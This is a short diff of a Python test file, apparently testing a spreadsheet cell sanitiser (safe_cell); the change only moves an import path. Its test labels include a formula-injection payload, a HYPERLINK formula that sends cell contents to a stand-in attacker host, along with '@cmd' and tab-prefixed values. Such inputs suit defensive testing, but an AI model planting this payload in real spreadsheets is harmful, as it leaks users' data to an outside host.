@@ -15,7 +15,7 @@ from graph_model.store import GraphStore
 from ingest.pipeline import ingest
 from stratgraph.cli import cli
 from stratgraph.output import render
-from stratgraph.spreadsheet import FORMULA_STARTS, _NUMBER, safe_cell, write_xlsx
+from graph_model.spreadsheet import FORMULA_STARTS, _NUMBER, safe_cell, write_xlsx
 from tests.hostile_corpus import HOSTILE
 
 LABELS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Klikkaa")', "@cmd", "\tTab"]
